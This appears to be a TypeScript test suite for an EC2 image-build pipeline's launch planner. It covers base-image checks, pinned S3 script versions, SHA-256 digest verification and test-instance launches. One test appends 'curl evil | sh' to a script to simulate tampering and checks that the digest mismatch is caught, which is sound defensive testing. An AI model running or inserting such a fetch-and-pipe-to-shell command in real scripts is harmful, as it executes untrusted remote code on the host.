import type { Image } from '@aws-sdk/client-ec2';
import { expect } from 'chai';
import {
  BOOT_CHECK_SCRIPT,
  type LaunchFacts,
  planLaunch,
} from '../../../functions/ami-ec2-instance-create/plan-launch';
import type { BuildRecord } from '../../../functions/shared/build-record';
import { sha256Hex } from '../../../functions/shared/recipe-hash';
import { pending, recipe, SCRIPT, TEST_SCRIPT } from '../fixtures/launch-builds';

const testing: BuildRecord = { ...pending, status: 'testing', imageId: 'ami-new', instanceId: 'i-build' };
const base: Image = { ImageId: 'ami-base', RootDeviceName: '/dev/xvda', Name: 'vendor-base' };
const built: Image = {
  ImageId: 'ami-new',
  State: 'available',
  Tags: [{ Key: 'amibake:build-id', Value: pending.buildId }],
};
const facts = (build: BuildRecord | undefined, more: Partial<LaunchFacts> = {}): LaunchFacts => ({
  buildId: pending.buildId,
  stage: build?.status === 'testing' ? 'test' : 'build',
  build,
  ...more,
});

describe('planLaunch: the build instance', () => {
  it('ignores a build that does not exist or is no longer pending', () => {
    expect(planLaunch(facts(undefined))).to.deep.equal({ kind: 'ignore', reason: 'no such build' });
    expect(planLaunch(facts({ ...pending, status: 'building' }))).to.deep.equal({
      kind: 'ignore',
      reason: 'build is already building',
    });
  });

  it('reads the base, then the pinned version of the script, then launches', () => {
    expect(planLaunch(facts(pending))).to.deep.equal({ kind: 'describe-image', imageId: 'ami-base' });
    expect(planLaunch(facts(pending, { image: base }))).to.deep.equal({
      kind: 'read-script',
      object: { bucket: 'artifacts-bucket', key: 'scripts/web.sh' },
      versionId: 'v7',
    });
    expect(planLaunch(facts(pending, { image: base, script: SCRIPT }))).to.deep.equal({
      kind: 'launch',
      build: pending,
      image: base,
      script: SCRIPT,
    });
  });

  it('ends the build when the base was withdrawn or the script is gone or changed', () => {
    const fail = (more: Partial<LaunchFacts>): string[] => {
      const step = planLaunch(facts(pending, more));
      return step.kind === 'fail' ? [step.errorCode, step.reason] : [step.kind];
    };
    expect(fail({ image: null })).to.deep.equal([
      'InvalidAMIID.NotFound',
      'base image ami-base no longer exists (withdrawn by its owner?)',
    ]);
    expect(fail({ image: base, script: null })).to.deep.equal([
      'ScriptNotFound',
      'version v7 of customisation script s3://artifacts-bucket/scripts/web.sh does not exist',
    ]);
    expect(fail({ image: base, script: `${SCRIPT}curl evil | sh\n` })[0]).to.equal('ScriptDigestMismatch');
    expect(fail({ image: base, script: `${SCRIPT}curl evil | sh\n` })[1]).to.match(
      /^customisation script s3:\/\/artifacts-bucket\/scripts\/web\.sh \(version v7\) has SHA-256 [0-9a-f]{64}, not [0-9a-f]{64} as when the build started/,
    );
  });
});

describe('planLaunch: the test instance', () => {
  it('launches once, for a build that is testing', () => {
    expect(planLaunch({ ...facts(pending), stage: 'test' })).to.deep.equal({
      kind: 'ignore',
      reason: 'build is pending, not testing',
    });
    const launched = { ...testing, test: { requestedAt: testing.createdAt, instanceId: 'i-test' } };
    expect(planLaunch(facts(launched))).to.deep.equal({
      kind: 'ignore',
      reason: 'test instance i-test already launched',
    });
  });

  it('tests only an available image of this build', () => {
    const reason = (image: Image | null) => {
      const step = planLaunch(facts(testing, { image }));
      return step.kind === 'fail' ? `${step.errorCode}: ${step.reason}` : step.kind;
    };
    expect(planLaunch(facts(testing))).to.deep.equal({ kind: 'describe-image', imageId: 'ami-new' });
    expect(reason(null)).to.equal('TestLaunchFailed: image ami-new is gone: it cannot be tested');
    expect(reason({ ...built, State: 'pending' })).to.equal(
      'TestLaunchFailed: image ami-new is pending: it cannot be tested',
    );
    expect(reason({ ...built, Tags: [{ Key: 'amibake:build-id', Value: 'other-build' }] })).to.equal(
      'TestLaunchFailed: image ami-new is not tagged with this build: it cannot be tested',
    );
    const { imageId: _, ...imageless } = testing;
    expect(planLaunch(facts(imageless))).to.deep.include({
      kind: 'fail',
      reason: 'image (none) is gone: it cannot be tested',
    });
  });

  it('runs the test script the stack uploaded, and records its digest', () => {
    expect(planLaunch(facts(testing, { image: built }))).to.deep.equal({
      kind: 'read-script',
      object: { bucket: 'artifacts-bucket', key: 'scripts/web-test.sh' },
    });
    expect(planLaunch(facts(testing, { image: built, script: TEST_SCRIPT }))).to.deep.equal({
      kind: 'launch',
      build: testing,
      image: built,
      script: TEST_SCRIPT,
      scriptSha256: sha256Hex(TEST_SCRIPT),
    });
    const changed = planLaunch(facts(testing, { image: built, script: 'exit 0\n' }));
    expect(changed).to.include({ kind: 'fail', errorCode: 'TestScriptNotFound' });
    expect(planLaunch(facts(testing, { image: built, script: null }))).to.deep.include({
      kind: 'fail',
      reason:
        "test script s3://artifacts-bucket/scripts/web-test.sh does not exist: upload it, or fix the recipe's test.script",
    });
  });

  it('runs the boot check when the recipe has no test script', () => {
    const { script: _, ...noScript } = recipe.test;
    const bootOnly = { ...testing, recipe: { ...recipe, test: noScript } };
    expect(planLaunch(facts(bootOnly, { image: built }))).to.deep.equal({
      kind: 'launch',
      build: bootOnly,
      image: built,
      script: BOOT_CHECK_SCRIPT,
    });
  });
});
